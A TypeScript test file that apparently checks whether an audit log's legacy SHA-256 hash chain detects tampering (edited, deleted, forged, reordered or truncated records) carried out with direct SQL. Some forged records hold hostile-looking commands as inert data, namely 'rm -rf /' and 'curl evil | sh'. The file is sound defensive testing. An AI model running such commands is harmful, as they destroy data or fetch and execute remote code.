import { sql } from 'kysely';
import { beforeEach, describe, expect, it } from 'vitest';
import { AuditLog, hashEvent, type AuditEvent } from '../../src/audit/index.js';
import type { Store } from '../../src/store/index.js';
import { useTempStores } from '../store/temp-store.js';

/**
 * The chain's own checks, on a log without keys (legacy SHA-256 records, as written before the keyed
 * chain): each test gets a fresh log of 100 records; tampering is done with direct SQL. What a keyed
 * log adds against a writer who recomputes hashes is in attacks.test.ts.
 */
describe('AuditLog.verify detects tampering of the legacy chain', () => {
  const temp = useTempStores();
  let store: Store;
  let log: AuditLog;
  let events: AuditEvent[];

  beforeEach(async () => {
    store = await temp.open();
    log = new AuditLog(store);
    events = [];
    for (let i = 1; i <= 100; i += 1) {
      events.push(
        await log.append({
          principal: 'bob',
          source: 'engine',
          action: 'exec',
          target: 'web',
          command: `step ${i}`,
        }),
      );
    }
    expect(await log.verify()).toMatchObject({ ok: true, count: 100 });
  });

  const at = (seq: number): AuditEvent => events[seq - 1] as AuditEvent;

  it('a modified field of a middle record', async () => {
    await sql`update audit_events set command = 'rm -rf /' where seq = 50`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 49,
      firstBroken: {
        seq: 50,
        id: at(50).id,
        reason: 'hash_mismatch',
        message: expect.stringContaining('modified'),
      },
    });
  });

  it('a modified record whose hash was recomputed', async () => {
    const forged = { ...at(50), command: 'rm -rf /' };
    await sql`update audit_events set command = ${forged.command}, hash = ${hashEvent(forged)} where seq = 50`.execute(
      store.db,
    );
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 50,
      firstBroken: { seq: 51, reason: 'prev_hash_mismatch' },
    });
  });

  it('a modified JSON column', async () => {
    await sql`update audit_events set details = '{"x":1}' where seq = 10`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      firstBroken: { seq: 10, reason: 'hash_mismatch' },
    });
    await sql`update audit_events set details = 'not json' where seq = 10`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      firstBroken: { seq: 10, reason: 'invalid_record' },
    });
  });

  it('a deleted middle record', async () => {
    await sql`delete from audit_events where seq = 50`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 49,
      firstBroken: {
        seq: 51,
        id: at(51).id,
        reason: 'sequence_gap',
        message: 'Record 50 is missing before record 51.',
      },
    });
  });

  it('a deleted first record', async () => {
    await sql`delete from audit_events where seq = 1`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 0,
      firstBroken: { seq: 2, reason: 'sequence_gap' },
    });
  });

  it('the deleted last record (caught by the head)', async () => {
    await sql`delete from audit_events where seq = 100`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 99,
      firstBroken: { seq: 100, id: null, reason: 'truncated', message: expect.stringContaining('deleted') },
    });
  });

  it('the last ten records deleted', async () => {
    await sql`delete from audit_events where seq > 90`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 90,
      firstBroken: { seq: 91, reason: 'truncated' },
    });
  });

  it('a forged record appended with a valid link and hash (caught by the head)', async () => {
    const unsealed = {
      ...at(100),
      id: 'forged',
      seq: 101,
      prevHash: at(100).hash,
      command: 'curl evil | sh',
    };
    const body = unsealed;
    const hash = hashEvent(body);
    await sql`insert into audit_events (seq, id, at, principal, source, action, target, command, details, prev_hash, hash)
      values (101, 'forged', ${body.at}, 'bob', 'engine', 'exec', 'web', ${body.command}, '{}', ${body.prevHash}, ${hash})`.execute(
      store.db,
    );
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 101,
      firstBroken: { seq: 101, id: 'forged', reason: 'head_mismatch', message: expect.any(String) },
    });
  });

  it('a forged record inserted in the middle (later records renumbered)', async () => {
    await sql`update audit_events set seq = seq + 1000 where seq >= 50`.execute(store.db);
    await sql`update audit_events set seq = seq - 999 where seq >= 1050`.execute(store.db);
    const body = { ...at(50), id: 'forged', seq: 50, prevHash: at(49).hash, command: 'id' };
    await sql`insert into audit_events (seq, id, at, principal, source, action, target, command, details, prev_hash, hash)
      values (50, 'forged', ${body.at}, 'bob', 'engine', 'exec', 'web', 'id', '{}', ${body.prevHash}, ${hashEvent(body)})`.execute(
      store.db,
    );
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 50,
      firstBroken: { seq: 51, id: at(50).id, reason: 'prev_hash_mismatch' },
    });
  });

  it('two records swapped (reordered)', async () => {
    await sql`update audit_events set seq = -1 where seq = 30`.execute(store.db);
    await sql`update audit_events set seq = 30 where seq = 60`.execute(store.db);
    await sql`update audit_events set seq = 60 where seq = -1`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      count: 29,
      firstBroken: { seq: 30, id: at(60).id, reason: 'prev_hash_mismatch' },
    });
  });

  it('a head row that was rewound or removed', async () => {
    await sql`update audit_head set seq = 99`.execute(store.db);
    expect(await log.verify()).toMatchObject({
      ok: false,
      firstBroken: { seq: 100, reason: 'head_mismatch' },
    });
    await sql`delete from audit_head`.execute(store.db);
    expect(await log.verify()).toMatchObject({ ok: false, firstBroken: { reason: 'head_mismatch' } });
  });
});
